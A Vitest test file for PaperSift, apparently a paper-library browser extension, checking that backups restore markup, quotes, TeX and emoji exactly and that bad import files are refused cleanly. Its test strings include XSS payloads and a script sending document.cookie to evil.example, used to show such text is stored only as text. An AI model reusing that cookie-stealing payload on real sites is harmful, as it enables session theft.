import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { describe, expect, it } from 'vitest';
import { exportBackup } from '../../../lib/db/backup';
import type { PaperSiftDb } from '../../../lib/db/schema';
import { isBinaryChar } from '../../../lib/library/import';
import type { LibraryReply, LibraryRequest } from '../../../lib/messaging/library';
import { PageService } from '../../../lib/service/page';
import { LIMITS } from '../../../lib/shapes';
import { freshDb, probeModel, samplePapers } from '../db/fixtures';
import { buildLibrary, DEFAULT_LIST_ID, importFile, optionsPage } from './helpers';

// Text is text: PaperSift stores what the user types and what pages show as it is, and shows it only as text, so
// its own backup must restore any of it (issue 11: a note quoting the `<img>` token of LLaVA made the backup be
// refused whole). And files that are no import at all get a clear message, the database untouched.

const NOW = Date.UTC(2026, 7, 1);

/** Text that once made an import refuse the file, and text any parser may trip on. */
const TEXTS = [
  'Audio tokens are inserted like the `<img>` token in LLaVA',
  '<script>alert("x")</script> & <b onclick="go()">bold</b> <iframe src=//x>',
  'Quotes "double" \'single\' “curly” «guillemets» `back`',
  'Braces {a} \\{b\\} }{ and TeX $\\mathcal{O}(n^2)$ \\emph{x} % # _ ~ ^ & \\\\',
  'Emoji 🧪🔬, ZWJ 👩‍🔬, RTL שלום, CJK 論文, combining é',
  'Lines\nsecond line\r\n\tthird',
  'javascript:alert(1) onerror="alert(1)" data:text/html,<b>',
];

function setup(db: PaperSiftDb) {
  const { store, downloads, library, models } = optionsPage(db, () => probeModel, NOW);
  const page = new PageService(db, models, () => NOW);
  const call = async (req: LibraryRequest) => {
    const reply = await library.handle(req);
    if ('error' in reply) throw new Error(reply.error);
    return reply;
  };
  return { page, store, downloads, call };
}

const file = importFile;

async function tables(db: PaperSiftDb) {
  return (await exportBackup(db, 0)).tables;
}

describe('the own backup restores whatever the product accepts', () => {
  it('every field the user types into, and the page text, with tags, quotes, braces, TeX, emoji and newlines', async () => {
    const { db: a } = freshDb('source');
    const { page, store, downloads, call } = setup(a);
    // Pages: titles, authors and abstracts quoting tags, up to the longest the background accepts.
    const papers = samplePapers()
      .slice(0, TEXTS.length + 1)
      .map((p, i) => ({
        ...p,
        title: TEXTS[i] ?? `${'A long title <with> "markup" '.repeat(100)}`.slice(0, LIMITS.title),
        authors: [TEXTS[(i + 1) % TEXTS.length] as string, ...p.authors],
        abstract: `${TEXTS.join(' ')} ${p.abstract ?? ''}`,
      }));
    const seen = await page.pageSeen({
      url: 'https://arxiv.org/list/cs.LG/new',
      adapter: 'arxiv-list',
      visitStartedAt: NOW,
      papers,
    });
    expect('verdicts' in seen && seen.rejected).toEqual([]);
    await page.pageDone({
      visit: {
        url: 'https://arxiv.org/list/cs.LG/new',
        adapter: 'arxiv-list',
        entries: 8,
        rejected: 0,
        warnings: TEXTS,
      },
    });
    // The in-page filter's text, as typed.
    expect(
      await page.setFilter({
        url: 'https://arxiv.org/list/cs.LG/new',
        filter: { text: TEXTS, hide: ['<dismissed>'] },
      }),
    ).toEqual({
      ok: true,
    });
    // Popup: list names, notes, tags, at their longest too.
    const ids = papers.map((p) => p.id);
    for (const [i, name] of [...TEXTS, '名'.repeat(LIMITS.listName)].entries()) {
      const { list } = (await call({
        op: 'createList',
        name: `${i} ${name}`.slice(0, LIMITS.listName),
      })) as LibraryReply<'createList'>;
      await call({ op: 'addToList', listId: list.id, paperIds: ids.slice(0, i + 1) });
    }
    for (const [i, id] of ids.entries()) {
      await call({
        op: 'setNotes',
        paperId: id,
        notes: TEXTS[i] ?? `${'🧪 <img> {x}\n'.repeat(20_000)}`.slice(0, LIMITS.notes),
      });
      await call({
        op: 'setTags',
        paperId: id,
        tags: [...TEXTS.map((t) => t.slice(0, LIMITS.tag)), '<b>', '{tex}', '$x^2$'],
      });
      await call({ op: 'setStatus', paperIds: [id], status: 'reading' });
    }
    // Options: topic names, badge labels and key phrases; a dismissal and marks from the page.
    for (const [i, text] of TEXTS.entries())
      await call({
        op: 'putUserTopic',
        topic: {
          name: `${i}: ${text}`.slice(0, LIMITS.topicName),
          short: text.slice(0, LIMITS.topicShort),
          color: '#0ea5e9',
          phrases: [...TEXTS, 'x'.repeat(LIMITS.phrase)],
          examples: [ids[i] as string],
        },
      });
    await call({ op: 'setDismissed', paperId: ids[0] as string, dismissed: true });
    await page.setMark({ paper: papers[1], topic: 'gnn', relevant: true });

    await store.actions.exportData(undefined, 'json');
    const backup = downloads[0]?.text ?? '';
    expect(backup).toContain('`<img>` token in LLaVA');

    const { db: b } = freshDb('target');
    const to = setup(b);
    await to.store.actions.importFile(file('papersift-backup.json', backup), DEFAULT_LIST_ID);
    expect(to.store.state.importing.value?.message).toMatch(/^Imported papersift-backup\.json: 8 new papers/);
    expect(await tables(b)).toEqual(await tables(a));
  });

  it('a title or a BibTeX field quoting a tag is stored as it is written', async () => {
    const fixture = (name: string) =>
      readFileSync(resolve(import.meta.dirname, '../../fixtures/library', name), 'utf8');
    const { db } = freshDb();
    const { store } = setup(db);
    await store.actions.importFile(
      file('markup-in-title.json', fixture('markup-in-title.json')),
      DEFAULT_LIST_ID,
    );
    expect(store.state.importing.value?.phase).toBe('done');
    expect((await db.papers.get('arxiv:2607.20519'))?.title).toBe(
      "Adaptive Depth<script>fetch('https://evil.example/?'+document.cookie)</script>",
    );
    await store.actions.importFile(
      file('markup-in-field.bib', fixture('markup-in-field.bib')),
      DEFAULT_LIST_ID,
    );
    expect(store.state.importing.value?.message).toMatch(
      /^Imported markup-in-field\.bib: 0 new papers, 1 merged/,
    );
    // The BibTeX record merges into the paper known already, whose title stays.
    expect(await db.papers.count()).toBe(1);
  });
});

describe('files that are no import', () => {
  const png = readFileSync(resolve(import.meta.dirname, '../../fixtures/library/bad/screenshot.png'));
  /** What `File.text()` gives for the file: UTF-8, undecodable bytes replaced. */
  const asText = (bytes: Uint8Array) => new TextDecoder().decode(bytes);

  it.each([
    [
      'a PNG renamed .bib',
      'screenshot.bib',
      asText(png),
      /^screenshot\.bib: The file is not a text file \(it looks like a PNG image\)\. PaperSift imports a JSON backup or a BibTeX file\. Nothing was imported\.$/,
    ],
    [
      'a PNG renamed .json',
      'backup.json',
      asText(png),
      /^backup\.json: The file is not a text file \(it looks like a PNG image\)/,
    ],
    [
      'binary data named .json',
      'backup.json',
      asText(png.subarray(1000)),
      /^backup\.json: The file is not a text file \(it looks like binary data\)/,
    ],
    [
      'a backup whose setting is nested 100,000 deep',
      'deep.json',
      `{"format":"papersift-backup","version":1,"schemaVersion":3,"exportedAt":"x","tables":{"settings":[{"key":"filterBar:arxiv","value":${'['.repeat(100_000)}${']'.repeat(100_000)}}]}}`,
      /^deep\.json: The backup is malformed at tables\.settings\.0\.value: is nested deeper than 32 levels\. Nothing was imported\.$/,
    ],
    [
      'a .json that is not JSON',
      'refs.json',
      '@misc{a, title={x}}',
      /^refs\.json: The file is not valid JSON/,
    ],
  ])('%s: a clear message, nothing imported', async (_what, name, text, message) => {
    const { db } = freshDb();
    await buildLibrary(db);
    const { store } = setup(db);
    const before = await tables(db);
    await store.actions.importFile(file(name, text), DEFAULT_LIST_ID);
    expect(store.state.importing.value?.phase).toBe('failed');
    const shown = store.state.importing.value?.message ?? '';
    expect(shown).toMatch(message);
    // Nothing of the file's bytes in the message.
    expect([...shown].filter((c) => isBinaryChar(c.charCodeAt(0)))).toEqual([]);
    expect(await tables(db)).toEqual(before);
  });
});
